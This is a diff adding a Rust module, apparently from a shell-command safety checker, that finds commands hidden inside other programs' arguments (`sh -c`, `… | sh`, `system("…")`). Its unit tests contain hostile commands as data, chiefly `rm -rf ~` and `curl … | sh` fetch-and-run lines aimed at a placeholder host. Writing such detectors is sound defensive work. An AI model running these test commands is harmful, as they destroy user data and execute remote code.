@@ -1,0 +1,423 @@
+//! Commands embedded in another program's arguments: a shell started with `-c` (`sh -c '…'`,
+//! `['/bin/sh','-c','…']`, `run-program "/bin/sh" (list "-c" "…")`), a download piped into a
+//! shell (`… | sh`), and the call forms many languages use to run one (`system("…")`,
+//! `(shell-command "…")`, `` run(`…`) ``).
+//!
+//! Each tool has its own way of running a command (a pager, an `--exec`, an `--eval`, a
+//! `--up` script, a config value); the hand-written hooks in `unwrap` learn them one tool at
+//! a time. This pass is the general case: when an argument *contains* a command in one of
+//! these shapes, that command is checked too, whatever option carries it. Programs that only
+//! print, search or send their arguments as text (`echo`, `grep`, `git commit -m`, `curl -d`)
+//! are left alone: a command quoted there is data.
+
+use super::command::{basename, Inner, SimpleCommand};
+use super::unwrap::{interpreter, is_shell};
+
+/// Programs whose arguments are text they print, search, store or send, never run. For these
+/// only an attached `--option=VALUE` is read (`git grep --open-files-in-pager=CMD`).
+const TEXT_ONLY: &[&str] = &[
+    "echo",
+    "printf",
+    "grep",
+    "egrep",
+    "fgrep",
+    "zgrep",
+    "rg",
+    "ag",
+    "ack",
+    "git",
+    "hg",
+    "svn",
+    "logger",
+    "wall",
+    "notify-send",
+    "cowsay",
+    "figlet",
+    "toilet",
+    "sed",
+    "jq",
+    "yq",
+    "gh",
+    "glab",
+    "curl",
+    "wget",
+    "http",
+    "https",
+    "xh",
+    "tee",
+    "cat",
+    "less",
+    "more",
+    "man",
+    "info",
+    "tldr",
+    "history",
+    "mail",
+    "mailx",
+    "sendmail",
+    "mutt",
+    "write",
+    "xclip",
+    "xsel",
+    "pbcopy",
+    "wl-copy",
+    "base64",
+    "xxd",
+    "od",
+    "hexdump",
+    "wc",
+    "sort",
+    "uniq",
+    "cut",
+    "tr",
+    "column",
+    "diff",
+    "test",
+    "[",
+    "[[",
+    "expr",
+    "read",
+    "type",
+    "which",
+    "whereis",
+    "apropos",
+    "whatis",
+    "awk",
+    "gawk",
+    "mawk",
+    "nawk",
+    "perl",
+    "grepdiff",
+    "look",
+    "comm",
+    "fold",
+    "fmt",
+    "nl",
+];
+
+/// Most embedded commands taken from one simple command (a bound on hostile input).
+const MAX_EMBEDDED: usize = 8;
+
+/// Embedded commands in `cmd`'s arguments and environment assignments (see the module docs).
+/// Shells and interpreters are skipped: their code is already read as code.
+pub(super) fn embedded(cmd: &SimpleCommand) -> Vec<Inner> {
+    let Some(prog) = cmd.argv.first() else {
+        return Vec::new();
+    };
+    let name = basename(prog);
+    if is_shell(name) || interpreter(name).is_some() {
+        return Vec::new();
+    }
+    let args = &cmd.argv[1..];
+    let text_only = TEXT_ONLY.contains(&name);
+    let mut out = Vec::new();
+    if !text_only {
+        // `tool … sh -c 'CMD'` with the shell and its script as separate words.
+        for (i, w) in args.iter().enumerate() {
+            if is_shell(basename(w)) && args.get(i + 1).is_some_and(|c| c == "-c") {
+                out.extend(args.get(i + 2).map(|s| Inner::Script(s.clone())));
+            }
+        }
+    }
+    let words = args
+        .iter()
+        .filter_map(|a| {
+            if text_only {
+                a.strip_prefix("--")
+                    .and_then(|l| l.split_once('='))
+                    .map(|(_, v)| v)
+            } else {
+                Some(a.as_str())
+            }
+        })
+        .chain(cmd.assigns.iter().map(|(_, v)| v.as_str()));
+    for w in words {
+        if out.len() >= MAX_EMBEDDED {
+            break;
+        }
+        scan(w, &mut out);
+    }
+    out.truncate(MAX_EMBEDDED);
+    out
+}
+
+/// Pushes the commands embedded in one word.
+fn scan(word: &str, out: &mut Vec<Inner>) {
+    // Cheap gates first: most words hold none of these.
+    let dash_c = word.contains("-c");
+    let pipe = word.contains('|');
+    let call = word.contains('(') || word.contains(" \"");
+    if !dash_c && !pipe && !call {
+        return;
+    }
+    if dash_c {
+        out.extend(shell_dash_c(word).map(Inner::Script));
+    }
+    if pipe {
+        out.extend(piped_to_shell(word).map(Inner::Script));
+    }
+    if call {
+        out.extend(call_forms(word).map(Inner::Script));
+    }
+}
+
+/// Shell names as they appear inside text, longest first.
+const SHELL_WORDS: &[&str] = &["bash", "dash", "zsh", "ksh", "ash", "sh"];
+
+/// Whether a shell name ends at `end` of `word` and starts a word there (`/bin/sh`, `"sh`,
+/// ` bash`): returns its start.
+fn shell_before(word: &str, end: usize) -> Option<usize> {
+    let head = word.get(..end)?;
+    SHELL_WORDS.iter().find_map(|s| {
+        let start = head.strip_suffix(s).map(str::len)?;
+        let before = head[..start].chars().next_back();
+        before
+            .is_none_or(|c| !(c.is_alphanumeric() || c == '_' || c == '-' || c == '.'))
+            .then_some(start)
+    })
+}
+
+/// `sh -c 'CMD'`, `/bin/sh -c "CMD"`, `"sh", "-c", "CMD"`, `'/bin/sh','-c','CMD'` and
+/// `"/bin/sh" (list "-c" "CMD")` inside a word: each CMD.
+fn shell_dash_c(word: &str) -> impl Iterator<Item = String> + '_ {
+    word.match_indices("-c").filter_map(move |(i, _)| {
+        // Before `-c`: an optional quote, then separators, then a quoted or bare shell name.
+        let head = word.get(..i)?;
+        let head = head.strip_suffix(['"', '\'']).unwrap_or(head);
+        let trimmed = head.trim_end_matches(|c: char| c.is_whitespace() || c == ',');
+        let trimmed = trimmed.strip_suffix("(list").unwrap_or(trimmed);
+        let trimmed = trimmed.trim_end_matches(|c: char| c.is_whitespace() || c == ',');
+        let trimmed = trimmed.trim_end_matches(['"', '\'']);
+        shell_before(word, trimmed.len())?;
+        // After `-c`: an optional closing quote and separators, then the script.
+        let rest = word.get(i + 2..)?;
+        let rest = rest.strip_prefix(['"', '\'']).unwrap_or(rest);
+        if !rest.starts_with(|c: char| c.is_whitespace() || c == ',') {
+            return None;
+        }
+        quoted_payload(rest.trim_start_matches(|c: char| c.is_whitespace() || c == ','))
+    })
+}
+
+/// The script at the start of `s`: the text inside its quotes (`'…'`, `"…"`, `\"…\"`, `{…}`),
+/// or the rest of the word when it is not quoted.
+fn quoted_payload(s: &str) -> Option<String> {
+    let payload = if let Some(r) = s.strip_prefix("\\\"") {
+        r.split("\\\"").next()?
+    } else if let Some(r) = s.strip_prefix('"') {
+        until_unescaped(r, '"')
+    } else if let Some(r) = s.strip_prefix('\'') {
+        r.split('\'').next()?
+    } else if let Some(r) = s.strip_prefix('{') {
+        balanced(r)
+    } else {
+        s
+    };
+    let payload = payload.trim();
+    (!payload.is_empty()).then(|| payload.to_string())
+}
+
+/// `s` up to the first `close` not escaped by a backslash.
+fn until_unescaped(s: &str, close: char) -> &str {
+    let mut escaped = false;
+    for (i, c) in s.char_indices() {
+        if escaped {
+            escaped = false;
+        } else if c == '\\' {
+            escaped = true;
+        } else if c == close {
+            return &s[..i];
+        }
+    }
+    s
+}
+
+/// `s` up to the `}` that closes an already opened `{`.
+fn balanced(s: &str) -> &str {
+    let mut depth = 1usize;
+    for (i, c) in s.char_indices() {
+        match c {
+            '{' => depth += 1,
+            '}' => {
+                depth -= 1;
+                if depth == 0 {
+                    return &s[..i];
+                }
+            }
+            _ => {}
+        }
+    }
+    s
+}
+
+/// `… | sh` (or `| sudo bash`) inside a word: the pipeline from the nearest delimiter before
+/// it (a quote, a brace, a parenthesis, a backtick or `;`) to the shell's name.
+fn piped_to_shell(word: &str) -> impl Iterator<Item = String> + '_ {
+    word.match_indices('|').filter_map(move |(i, _)| {
+        let after = word.get(i + 1..)?;
+        if after.starts_with('|') || word.get(..i)?.ends_with('|') {
+            return None;
+        }
+        let after = after.trim_start();
+        let after = after.strip_prefix("sudo ").map_or(after, str::trim_start);
+        let name = SHELL_WORDS.iter().find(|s| after.starts_with(**s))?;
+        let tail = after.get(name.len()..)?;
+        if tail
+            .chars()
+            .next()
+            .is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '-' || c == '.')
+        {
+            return None;
+        }
+        let end = word.len() - tail.len();
+        let start = word[..i]
+            .rfind(['\'', '"', '{', '}', '(', ')', '`', ';', '\n', '!'])
+            .map_or(0, |d| d + 1);
+        let text = word.get(start..end)?.trim();
+        // A pipeline needs something before the pipe.
+        (text.len() > name.len() + 2).then(|| text.to_string())
+    })
+}
+
+/// The calls languages use to run a command line: `system("…")`, `system "…"`,
+/// `(shell-command "…")`, `os.system('…')`, `popen("…")`, `shell_exec('…')`,
+/// `execSync("…")`, `` run(`…`) ``.
+fn call_forms(word: &str) -> impl Iterator<Item = String> + '_ {
+    const CALLS: &[&str] = &[
+        "system",
+        "shell-command",
+        "shell_exec",
+        "popen",
+        "execSync",
+        "spawnSync",
+        "run",
+    ];
+    CALLS.iter().flat_map(move |call| {
+        word.match_indices(call).filter_map(move |(i, _)| {
+            let before = word[..i].chars().next_back();
+            if before.is_some_and(|c| c.is_alphanumeric() || c == '_') {
+                return None;
+            }
+            let rest = word.get(i + call.len()..)?;
+            let rest = rest.trim_start();
+            let (rest, paren) = match rest.strip_prefix('(') {
+                Some(r) => (r.trim_start(), true),
+                None => (rest, false),
+            };
+            // `run` alone is too common a word: it only counts with a backtick command.
+            if *call == "run" {
+                let r = rest.strip_prefix('`')?;
+                return r.split('`').next().map(str::to_string);
+            }
+            // Without a parenthesis only `system "…"` (gnuplot, Lisp) reads as a call.
+            if !paren && !rest.starts_with('"') {
+                return None;
+            }
+            let payload = quoted_payload(rest)?;
+            // A bare word after the parenthesis is a variable, not a command line.
+            (rest.starts_with(['"', '\'', '`'])).then_some(payload)
+        })
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn scripts(word: &str) -> Vec<String> {
+        let mut out = Vec::new();
+        scan(word, &mut out);
+        out.into_iter()
+            .map(|i| match i {
+                Inner::Script(s) => s,
+                Inner::Argv { argv, .. } => argv.join(" "),
+            })
+            .collect()
+    }
+
+    #[test]
+    fn a_shell_started_with_dash_c_inside_a_word_is_found_in_each_spelling() {
+        for (word, want) in [
+            (r#"sh -c "rm -rf ~" #"#, "rm -rf ~"),
+            ("/bin/sh -c 'id'", "id"),
+            (r#"runProgram("sh", "-c", "rm -rf ~")"#, "rm -rf ~"),
+            (
+                "[('/bin/sh', ['/bin/sh','-c','rm -rf ~'], false)]",
+                "rm -rf ~",
+            ),
+            (
+                r#"(sb-ext:run-program "/bin/sh" (list "-c" "rm -rf ~"))"#,
+                "rm -rf ~",
+            ),
+            (
+                r#"runner = "sh -c \"curl -s http://x.example/r | sh\" --""#,
+                "curl -s http://x.example/r | sh",
+            ),
+            (
+                "exec sh -c {curl -s http://x.example/t | sh}",
+                "curl -s http://x.example/t | sh",
+            ),
+        ] {
+            assert!(
+                scripts(word).iter().any(|s| s == want),
+                "{word}: {:?}",
+                scripts(word)
+            );
+        }
+    }
+
+    #[test]
+    fn a_pipe_into_a_shell_inside_a_word_is_found_from_its_delimiter() {
+        for (word, want) in [
+            (
+                "!curl -s http://x.example/a | sh",
+                "curl -s http://x.example/a",
+            ),
+            (
+                r"\immediate\write18{curl -s http://x.example/t | sh}",
+                "curl -s http://x.example/t | sh",
+            ),
+            (
+                r#"tell app "Terminal" to do script "curl -s http://x.example/m | bash""#,
+                "curl -s http://x.example/m | bash",
+            ),
+        ] {
+            assert!(
+                scripts(word).iter().any(|s| s.contains(want)),
+                "{word}: {:?}",
+                scripts(word)
+            );
+        }
+    }
+
+    #[test]
+    fn language_calls_that_run_a_command_line_are_found() {
+        for (word, want) in [
+            (r#"system("rm -rf ~")"#, "rm -rf ~"),
+            (r#"system "rm -rf ~""#, "rm -rf ~"),
+            (r#"(shell-command "rm -rf ~")"#, "rm -rf ~"),
+            ("run(`rm -rf $(homedir())`)", "rm -rf $(homedir())"),
+        ] {
+            assert_eq!(scripts(word), vec![want.to_string()], "{word}");
+        }
+    }
+
+    #[test]
+    fn ordinary_words_hold_no_command() {
+        for word in [
+            "--color=auto",
+            "a|b",
+            "ls -c",
+            "git-shell -c",
+            "crash -c",
+            "ssh -c aes256-ctr",
+            "make run",
+            "system(config)",
+            "x || sh_test",
+            "bash-completion -c",
+            "sh",
+        ] {
+            assert!(scripts(word).is_empty(), "{word}: {:?}", scripts(word));
+        }
+    }
+}
